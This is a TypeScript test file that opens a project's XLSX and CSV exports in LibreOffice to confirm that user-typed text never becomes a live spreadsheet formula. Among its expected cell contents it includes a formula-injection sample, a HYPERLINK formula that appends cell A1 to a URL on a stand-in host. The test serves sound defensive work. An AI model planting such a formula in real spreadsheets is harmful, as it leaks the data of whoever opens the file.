/** Our tables opened by a spreadsheet program: no cell of what a person typed may be a live formula. */
import { spawnSync } from 'node:child_process'
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'
import { afterAll, describe, expect, it } from 'vitest'
import { writers } from '../../../src/formats/write/index.ts'
import { inputOf } from './inputs.ts'
import { payloads } from './payloads.ts'

const isHere = spawnSync('soffice', ['--version']).status === 0
if (!isHere) console.log('LibreOffice (soffice) is not installed: no table is opened with it.')

const folder = mkdtempSync(join(tmpdir(), 'mizan-tables-'))
afterAll(() => rmSync(folder, { recursive: true, force: true }))

const SEMICOLONS = 'CSV:59,34,76,1'

/** A table as LibreOffice understands it, as flat XML. */
function opened(name: string, content: string | Uint8Array, filter: readonly string[] = []): string {
  writeFileSync(join(folder, name), content)
  const profile = `-env:UserInstallation=${pathToFileURL(join(folder, 'profile')).href}`
  const convert = ['--headless', '--convert-to', 'fods', '--outdir', folder]
  spawnSync('soffice', [profile, ...filter, ...convert, join(folder, name)], { timeout: 100_000 })
  return readFileSync(join(folder, name.replace(/\.\w+$/, '.fods')), 'utf8')
}

const formulasIn = (table: string) => table.match(/table:formula="[^"]*"/g) ?? []

/** Every payload somewhere in a report. */
function inputs() {
  let at = 0
  const input = () => inputOf(() => payloads[at++ % payloads.length] ?? '')
  return [input(), input()]
}

describe.runIf(isHere)('LibreOffice', { timeout: 300_000 }, () => {
  it('finds a formula where there is one', () => {
    expect(formulasIn(opened('planted.csv', 'a,=1+1\r\n'))).toHaveLength(1)
  })

  it('finds none in the workbook, and every text as it was typed', () => {
    for (const [at, input] of inputs().entries()) {
      const table = opened(`workbook-${at}.xlsx`, writers.xlsx.write(input))
      expect(formulasIn(table)).toEqual([])
      expect(table).toContain('=HYPERLINK(&quot;https://example.org/?x=&quot;&amp;A1,&quot;Click&quot;)')
      expect(table).toContain('office:value-type="percentage"')
      expect(table).toContain('office:date-value="2026-11-23"')
    }
  })

  it('finds none in the answers as CSV, whatever it takes for the end of a cell', () => {
    for (const [at, input] of inputs().entries()) {
      const file = writers.csv.write(input)
      expect(formulasIn(opened(`comma-${at}.csv`, file))).toEqual([])
      expect(formulasIn(opened(`semicolon-${at}.csv`, file, [`--infilter=${SEMICOLONS}`]))).toEqual([])
    }
  })
})
